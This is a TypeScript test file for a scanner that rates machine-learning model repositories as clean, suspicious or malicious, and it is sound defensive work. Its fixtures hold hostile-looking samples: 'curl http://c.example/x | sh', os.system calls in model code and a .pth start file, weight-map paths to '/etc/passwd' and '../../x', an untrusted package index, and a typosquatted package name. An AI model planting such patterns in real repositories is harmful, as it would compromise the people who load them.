import { expect, test } from 'vitest'
import { worstVerdict } from '../../ground/domain/index.ts'
import { sourceOfBytes } from '../../ground/lang/index.ts'
import { assessFile } from './assess-model.ts'
import { assessRepository } from './assess-repository.ts'

type Files = Readonly<Record<string, string | Uint8Array>>

async function scan(files: Files) {
  const bytes = new Map(Object.entries(files).map(([name, content]) => [name, Buffer.from(content)]))
  const open = (name: string) => sourceOfBytes(bytes.get(name) ?? new Uint8Array(0))
  const alone = await Promise.all([...bytes.keys()].map((name) => assessFile(name, open(name))))
  const together = await assessRepository({
    files: [...bytes].map(([name, { length }]) => ({ name, sizeBytes: length })),
    withFile: (name, use) => use(open(name)),
  })
  const all = [...alone, ...together]
  return {
    verdict: worstVerdict(all.map(({ verdict }) => verdict)),
    rules: all.flatMap(({ findings }) => findings.map(({ ruleId }) => ruleId)),
    findings: all.flatMap(({ findings }) => findings),
  }
}

const json = (value: unknown): string => JSON.stringify(value)
const INERT = 'import torch\n\nclass Acme(torch.nn.Module):\n    pass\n'
const AUTO_MAP = json({ model_type: 'acme', auto_map: { AutoModel: 'modeling_acme.Acme' } })

test.for([
  ['code that is here and inert', { 'config.json': AUTO_MAP, 'modeling_acme.py': INERT }, 'clean'],
  ['code that is missing', { 'config.json': AUTO_MAP }, 'suspicious'],
  [
    'code that acts',
    { 'config.json': AUTO_MAP, 'modeling_acme.py': "import os\nos.system('id')\n" },
    'malicious',
  ],
  [
    'code of another repository',
    { 'config.json': json({ auto_map: { AutoModel: 'o/r--m.A' } }), 'm.py': INERT },
    'suspicious',
  ],
  [
    'code of a processor',
    { 'processor_config.json': json({ auto_map: { AutoProcessor: 'processing_a.A' } }) },
    'suspicious',
  ],
  ['code beside a nested configuration', { 'm/config.json': AUTO_MAP, 'm/modeling_acme.py': INERT }, 'clean'],
  [
    'code above a nested configuration',
    { 'text_encoder/config.json': AUTO_MAP, 'modeling_acme.py': INERT },
    'clean',
  ],
  ['escaped in the JSON', { 'config.json': '{"auto\\u005fmap": {"AutoModel": "o/r--m.A"}}' }, 'suspicious'],
  [
    'custom pipeline of elsewhere',
    { 'model_index.json': json({ _class_name: ['o/r--p', 'P'] }) },
    'suspicious',
  ],
  [
    'part from a module of Python',
    { 'model_index.json': json({ _class_name: 'P', vae: ['subprocess', 'Popen'] }) },
    'suspicious',
  ],
  ['module of elsewhere', { 'modules.json': json([{ type: 'o/r--st.T' }]) }, 'suspicious'],
  ['module of its own, inert', { 'modules.json': json([{ type: 'st.T' }]), 'st.py': INERT }, 'clean'],
  ['index that climbs', { 'm.safetensors.index.json': json({ weight_map: { a: '../../x' } }) }, 'malicious'],
  [
    'index with an absolute path',
    { 'm.safetensors.index.json': json({ weight_map: { a: '/etc/passwd' } }) },
    'malicious',
  ],
  [
    'index of parts that are missing',
    { 'm.safetensors.index.json': json({ weight_map: { a: 'b.safetensors' } }) },
    'clean',
  ],
  [
    'loader of MLflow',
    { MLmodel: 'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n' },
    'clean',
  ],
  [
    'loader that nobody knows',
    { MLmodel: 'flavors:\n  python_function:\n    loader_module: subprocess\n' },
    'suspicious',
  ],
  [
    'packages from a strange index',
    { 'requirements.txt': '-i http://192.0.2.1/simple\ntorch\n' },
    'suspicious',
  ],
  ['a slip in a name', { 'requirements.txt': 'scikit-leam\n' }, 'suspicious'],
  ['shell that downloads', { 'run.sh': 'curl http://c.example/x | sh\n' }, 'suspicious'],
  ['start file of Python', { 'x.pth': 'import os; os.system("id")\n' }, 'malicious'],
] as const satisfies readonly (readonly [string, Files, string])[])('%s', async ([, files, verdict]) => {
  expect((await scan({ LICENSE: 'MIT\n', ...files })).verdict).toBe(verdict)
})

test('code that acts makes one malicious finding, on the code', async () => {
  const { findings } = await scan({
    'config.json': AUTO_MAP,
    'modeling_acme.py': "import os\nos.system('id')\n",
  })
  const bad = findings.filter(({ verdict }) => verdict === 'malicious')
  expect(bad.map(({ ruleId, location }) => [ruleId, location.path])).toEqual([
    ['repository/import-action', 'modeling_acme.py'],
  ])
})

test('a call that another file makes is followed through files and folders', async () => {
  const { findings } = await scan({
    'modeling_a.py': 'from .kit.one import go\n\nclass A:\n    def forward(self, x):\n        go()\n',
    'kit/one.py':
      'from .two import Tool\n\ndef go():\n    Tool().start()\n    helper()\n\ndef helper():\n    from .two import run\n    run()\n',
    'kit/two.py': 'import os\n\nclass Tool:\n    def start(self): pass\n\ndef run():\n    os.system("id")\n',
  })
  expect(findings.map(({ ruleId, location }) => [ruleId, location.path])).toContainEqual([
    'repository/reached-code',
    'kit/two.py',
  ])
})

test('an ordinary repository is clean', async () => {
  const { verdict, findings } = await scan({
    'README.md': '---\nlicense: mit\n---\n# Acme\n',
    LICENSE: 'MIT',
    '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n',
    'config.json': AUTO_MAP,
    'modeling_acme.py': INERT,
    'tokenizer_config.json': json({ tokenizer_class: 'BertTokenizer' }),
    'generation_config.json': json({ max_length: 20 }),
    'vocab.txt': '[PAD]\n[UNK]\n',
    merges: '#version: 0.2\na b\n',
    'requirements.txt': 'torch>=2\ntransformers\n--extra-index-url https://download.pytorch.org/whl/cu121\n',
    Makefile: 'all:\n\tpython train.py\n',
    Dockerfile: 'FROM python:3.11\nRUN pip install torch\n',
    'run.sh': '#!/bin/bash\npython train.py\n',
    'kernel.cu': '__global__ void f() {}\n',
    'service.proto': 'syntax = "proto3";\n',
    'page.html': '<p>x</p>\n',
    'app.js': 'console.log(1)\n',
    'win.txt': Buffer.from('\ufeffa text of Windows', 'utf16le'),
    'use.ipynb': json({
      nbformat: 4,
      nbformat_minor: 5,
      cells: [{ cell_type: 'code', source: '!pip install transformers\nimport torch' }],
    }),
  })
  expect(findings.filter((finding) => finding.verdict !== 'clean')).toEqual([])
  expect(verdict).toBe('clean')
})

test('a pointer of Git LFS is not counted as clean', async () => {
  const pointer = 'version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n'
  expect((await scan({ 'model.safetensors': pointer })).verdict).not.toBe('clean')
})

test('broken configurations are read without a throw', async () => {
  for (const text of [
    '',
    '{',
    'null',
    '[]',
    '[[[[',
    '{"auto_map": 1}',
    '{"auto_map": {"a": [null, 3]}}',
    '{"weight_map": []}',
  ])
    await scan({
      'config.json': text,
      'model_index.json': text,
      'modules.json': text,
      'a.index.json': text,
      'a.pyc': text,
    })
})
